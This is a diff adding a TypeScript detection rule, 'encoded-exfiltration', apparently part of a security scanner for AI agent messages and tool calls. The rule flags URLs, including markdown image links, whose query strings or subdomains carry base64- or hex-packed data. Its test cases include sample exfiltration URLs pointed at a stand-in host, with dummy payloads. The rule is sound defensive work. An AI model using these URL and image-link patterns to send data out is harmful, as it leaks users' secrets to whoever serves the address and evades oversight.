@@ -1,0 +1,56 @@
+import type { Evidence } from '../../model/finding.ts'
+import { phrase, type Phrase } from '../../text/match/phrase.ts'
+import { carriedBy } from '../argument/carried.ts'
+import type { Field } from '../field.ts'
+import type { Rule } from '../rule.ts'
+import { place, type Seek, shown } from '../seek.ts'
+import { answering, calling, failing, HONEST_ANSWERS, HONEST_CALLS, reading } from './sample.ts'
+import type { MessageSubject } from './subject.ts'
+
+/** Where an address begins; how far it goes is read in the text itself, in which capitals still are what they were. */
+const ADDRESSES: readonly Phrase[] = [phrase(['http://', 'https://'], /https?:\/\/[^\s"'<>()[\]{}\\]{20}/g)]
+
+/** `deploy key: 42` and its like, packed when the rule is shown with it. */
+const PACKED = btoa('name: reed; note: the words of a note')
+const HEX = Array.from('name: reed; a note', (char) => char.charCodeAt(0).toString(16)).join('')
+
+export const encodedExfiltration: Rule<MessageSubject> = {
+  id: 'encoded-exfiltration',
+  severity: 'high',
+  confidence: 'medium',
+  tier: 'review',
+  summary: 'An address carries words that are packed so that nobody reads them: whoever serves it gets them',
+  fix: 'Unpack the words and see whose they are before anything opens this address, or shows the picture behind it.',
+  references: ['MCP10', 'MCP01', 'SAFE-T1911', 'SAFE-T1913', 'AML.T0086', 'CoSAI T5'],
+  bad: [
+    calling({ url: `https://a.example.test/p?d=${PACKED}` }),
+    calling({ url: `https://${HEX}.a.example.test/` }),
+    calling({ body: `See https://a.example.test/${HEX}/x.png` }),
+    answering(`Done. ![](https://a.example.test/p.png?q=${PACKED})`),
+    reading(`[more](https://a.example.test/?q=${HEX})`),
+    failing(`See https://a.example.test/?e=${PACKED.replaceAll('=', '%3D')}`),
+  ],
+  good: [
+    calling({ url: 'https://a.example.test/a?sig=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08' }),
+    calling({ url: `https://a.example.test/callback?state=${btoa('{"a":"b","c":"d e f"}')}` }),
+    answering('![logo](https://a.example.test/assets/logo-1280x720.png?v=20240101)'),
+    answering('See https://a.example.test/commit/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567 for more.'),
+    ...HONEST_ANSWERS,
+    ...HONEST_CALLS,
+  ],
+  phrases: ADDRESSES,
+  *check({ fields }, seek) {
+    for (const field of fields) yield* carrying(field, seek)
+  },
+}
+
+function* carrying(field: Field, seek: Seek): Generator<Evidence> {
+  for (const { span, note } of seek.every(field, ADDRESSES)) {
+    if (note !== undefined) continue
+    const url = /^[^\s"'<>()[\]{}\\]{1,4096}/.exec(field.text.slice(span[0], span[0] + 4_096))?.[0] ?? ''
+    const carried = carriedBy(url)
+    if (carried === null) continue
+    const { where, by, words } = carried
+    yield place(field, [span[0], span[0] + url.length], `${by} in ${where} reads ${shown(words, [0, words.length])}`)
+  }
+}
